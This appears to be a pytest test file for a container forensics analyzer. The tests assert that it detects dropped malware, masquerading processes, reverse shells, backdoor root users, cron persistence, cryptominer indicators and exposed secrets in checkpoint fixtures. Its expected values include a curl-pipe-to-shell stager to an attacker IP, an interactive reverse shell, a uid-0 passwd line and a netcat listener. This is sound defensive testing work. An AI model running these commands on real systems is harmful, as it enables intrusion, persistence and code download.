"""The analyzers name what is really in each fixture checkpoint, and nothing more."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from forensics.alert import alert_from_json, decode_alert
from forensics.analysis.base import Options
from forensics.analysis.runner import analyze
from forensics.archive.checkpoint import Checkpoint
from tests.conftest import (
    CRIU41,
    DATA,
    LISTENER,
    PAYMENTS,
    SHOP,
    archive_path,
    fingerprint,
    masked,
)

ALERTS = {SHOP: "drop-and-execute-shop-frontend.json",
          PAYMENTS: "reverse-shell-payments-sidekick.json"}


def run(archive: str, *, alert: bool = True, reveal: bool = False) -> dict[str, Any]:
    options = Options(reveal=reveal)
    if alert and archive in ALERTS:
        options.alert = decode_alert((DATA / "falco" / ALERTS[archive]).read_bytes())
    with Checkpoint(archive_path(archive)) as ckpt:
        return analyze(ckpt, options).to_dict()


@pytest.fixture(scope="module")
def shop() -> dict[str, Any]:
    return run(SHOP)


@pytest.fixture(scope="module")
def payments() -> dict[str, Any]:
    return run(PAYMENTS)


def find(result: dict[str, Any], rule: str, **match: Any) -> list[dict[str, Any]]:
    return [f for f in result["findings"] if f["rule"] == rule
            and all(f.get(k) == v for k, v in match.items())]


def one(result: dict[str, Any], rule: str, **match: Any) -> dict[str, Any]:
    found = find(result, rule, **match)
    assert len(found) == 1, (rule, match, [f["summary"] for f in result["findings"]])
    return found[0]


def iocs(result: dict[str, Any], kind: str) -> dict[str, dict[str, Any]]:
    return {i["value"]: i for i in result["records"].get("ioc", []) if i["type"] == kind}


def test_every_analyzer_ran(shop: dict[str, Any]) -> None:
    assert {(a["name"], a["status"]) for a in shop["analyzers"]} == {
        (n, "ran") for n in ("alert", "filesystem", "ioc", "network", "process", "secrets", "yara")
    }
    assert shop["verdict"] == "critical"


def test_dropped_binary_and_its_location(shop: dict[str, Any]) -> None:
    f = one(shop, "process.exe-dropped", pid=17)
    assert (f["severity"], f["path"]) == ("critical", "/tmp/.cache/kworkerd")
    assert one(shop, "process.exe-dropped", pid=20)["path"] == "/tmp/.cache/kworkerd"
    exe = one(shop, "filesystem.new-executable", path="/tmp/.cache/kworkerd")
    assert exe["evidence"]["sha256"] == (
        "d28bdac382e43399ec85a633d2723e3ee0869308f101ab7ef9aa01453a74a0c1")
    assert exe["evidence"]["content"] == "elf"
    assert one(shop, "filesystem.hidden-directory")["path"] == "/tmp/.cache"


def test_masquerading_child(shop: dict[str, Any], payments: dict[str, Any]) -> None:
    f = one(shop, "process.masquerade")
    assert (f["pid"], f["severity"]) == (20, "high")
    assert f["evidence"] == {"comm": "kworker-helper", "argv0": "/tmp/.cache/kworkerd",
                             "exe": "/tmp/.cache/kworkerd"}
    assert one(payments, "process.masquerade")["pid"] == 11


def test_reverse_shell_and_both_ends(payments: dict[str, Any]) -> None:
    f = one(payments, "process.reverse-shell")
    assert (f["pid"], f["severity"]) == (9, "critical")
    assert f["evidence"]["local"] == "127.0.0.1:46658"
    assert f["evidence"]["remote"] == "127.0.0.1:31337"
    assert f["evidence"]["peer_pids"] == [1, 11]
    assert f["evidence"]["fds"] == [0, 1, 2]
    assert f["evidence"]["cmdline"] == "sh -i"
    assert one(payments, "process.exe-dropped", pid=1)["path"] == "/tmp/.cache/.x"


def test_new_uid0_user(shop: dict[str, Any]) -> None:
    f = one(shop, "filesystem.uid0-user")
    assert f["severity"] == "critical"
    assert f["evidence"] == {"line": "sysadm:x:0:0::/root:/bin/sh", "user": "sysadm"}
    assert one(shop, "filesystem.persistence-path", path="/etc/passwd")["severity"] == "high"


def test_deleted_motd_and_cron_line(shop: dict[str, Any]) -> None:
    assert one(shop, "filesystem.deleted")["path"] == "/etc/motd"
    cron = one(shop, "filesystem.cron-line")
    assert cron["path"] == "/tmp/.cache/cron"
    assert cron["evidence"]["lines"] == ["* * * * * /tmp/.cache/kworkerd"]


def test_open_but_deleted_staging_file(shop: dict[str, Any], payments: dict[str, Any]) -> None:
    f = one(shop, "filesystem.open-deleted")
    assert (f["path"], f["evidence"]["pids"]) == ("/tmp/.cache/.staging", [17, 20])
    assert one(payments, "filesystem.open-deleted")["evidence"]["pids"] == [1, 9, 11]


def test_secrets_in_environment_are_redacted(shop: dict[str, Any]) -> None:
    found = {f["evidence"]["name"]: f for f in find(shop, "secrets.environment")}
    assert set(found) == {"AWS_SECRET_ACCESS_KEY", "DB_PASSWORD"}
    for f in found.values():
        assert f["evidence"]["pids"] == [1, 7, 17, 20, 22]
        assert "value" not in f["evidence"]
        assert "sha256" not in f["evidence"]
    text = json.dumps(shop)
    env = next(p for p in shop["records"]["process"] if p["pid"] == 1)
    assert env  # the records carry no environment values
    for secret in _env_values(SHOP, ("DB_PASSWORD", "AWS_SECRET_ACCESS_KEY")):
        assert secret not in text
        assert found_redacted(found, secret)


def found_redacted(found: dict[str, dict[str, Any]], secret: str) -> bool:
    return any(f["evidence"]["redacted"] == masked(secret) and
               f["evidence"]["fingerprint"] == fingerprint(secret) for f in found.values())


def _env_values(archive: str, names: tuple[str, ...]) -> Iterator[str]:
    with Checkpoint(archive_path(archive)) as ckpt:
        p = ckpt.process(1)
        assert p is not None and p.environ is not None
        for item in p.environ:
            name, _, value = item.partition("=")
            if name in names:
                yield value


def test_reveal_shows_secrets() -> None:
    result = run(PAYMENTS, reveal=True)
    f = one(result, "secrets.environment")
    assert f["evidence"]["name"] == "STRIPE_KEY"
    assert f["evidence"]["value"] == "sk_live_51ExampleExampleExample"
    assert f["evidence"]["type"] == "stripe-live-key"


def test_pool_wallet_and_stager_in_memory(shop: dict[str, Any]) -> None:
    pool = one(shop, "ioc.mining-pool")
    assert pool["evidence"]["value"] == "stratum+tcp://pool.minexmr.example:4444"
    assert {loc["pid"] for loc in pool["evidence"]["locations"] if "pid" in loc} == {17, 20}
    assert pool["evidence"]["locations"][0] == {"pid": 17, "address": "0x2cc97720"}
    wallet = one(shop, "ioc.wallet")
    assert wallet["evidence"]["value"].startswith("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot")
    assert len(wallet["evidence"]["value"]) == 95
    stager = one(shop, "ioc.download-exec")
    assert stager["evidence"]["value"] == "curl -fsSL http://203.0.113.77:8080/stage2.sh | sh"
    assert stager["evidence"]["locations"][0] == {"pid": 17, "address": "0x2cc98730"}
    assert "203.0.113.77" in iocs(shop, "ip")
    assert "pool.minexmr.example" in iocs(shop, "domain")
    assert "http://203.0.113.77:8080/stage2.sh" in iocs(shop, "url")


def test_aws_key_pattern_in_memory(shop: dict[str, Any]) -> None:
    f = one(shop, "secrets.memory", pid=17)
    assert f["evidence"]["type"] == "aws-access-key-id"
    assert f["evidence"]["redacted"] == "[redacted:" + f["evidence"]["fingerprint"][12:24] + "]"
    # 512 chunks in each of the two processes, plus once in the dropped binary
    assert f["evidence"]["count"] == 1025
    assert f["evidence"]["locations"][0] == {"pid": 17, "address": "0x7feaea600008"}


def test_listener_and_queued_shell_output(shop: dict[str, Any], payments: dict[str, Any]) -> None:
    listener = one(shop, "network.unexpected-listener", pid=17)
    assert listener["evidence"]["port"] == 31337
    queued = one(payments, "network.queued-data")
    assert queued["evidence"]["received_preview"].startswith("sh: can't access tty")


def test_yara_default_rules(shop: dict[str, Any]) -> None:
    hits = find(shop, "yara.cryptominer_strings")
    assert {(f.get("pid"), f.get("path")) for f in hits} == {
        (17, None), (20, None), (None, "/tmp/.cache/kworkerd")}
    assert all(f["mitre"] == ["T1496"] for f in hits)


def test_alert_is_confirmed(shop: dict[str, Any], payments: dict[str, Any]) -> None:
    f = one(shop, "alert.confirmed")
    assert (f["pid"], f["severity"]) == (17, "critical")
    assert f["evidence"]["checks"] == {"vpid": True, "exe": True, "name": True, "cmdline": True,
                                       "pod": True, "container_id": True}
    g = one(payments, "alert.confirmed")
    assert g["pid"] == 9
    assert g["evidence"]["checks"]["fd"] is True
    assert g["evidence"]["checks"]["container_id"] is False  # the fixture alert names another id
    assert "note: the alert names container 21c793cc89e4" in g["summary"]


def test_benign_listener_has_only_what_is_there() -> None:
    result = run(LISTENER)
    serious = [f for f in result["findings"] if f["severity"] in ("medium", "high", "critical")]
    assert [(f["rule"], f["pid"]) for f in serious] == [("process.known-tool", 7)]
    assert "nc -l -p 4444" in serious[0]["summary"]


def test_criu41_busybox() -> None:
    result = run(CRIU41)
    assert one(result, "secrets.environment")["evidence"]["name"] == "API_TOKEN"
    assert one(result, "filesystem.executable-in-writable-dir")["path"] == "/tmp/dropper.sh"
    assert one(result, "process.one-liner")["pid"] == 1
    assert {f["rule"] for f in result["findings"]} == {
        "secrets.environment", "filesystem.executable-in-writable-dir", "process.one-liner"}


def test_alert_without_pid_or_exe_is_found_by_name_and_arguments() -> None:
    alert = json.loads((DATA / "falco" / ALERTS[PAYMENTS]).read_text())
    for key in ("proc.vpid", "proc.exepath"):
        del alert["output_fields"][key]
    with Checkpoint(archive_path(PAYMENTS)) as ckpt:
        result = analyze(ckpt, Options(alert=alert_from_json(alert))).to_dict()
    f = one(result, "alert.confirmed")
    assert f["pid"] == 9
    assert f["evidence"]["checks"] == {"name": True, "cmdline": True, "fd": True, "pod": True,
                                       "container_id": False}
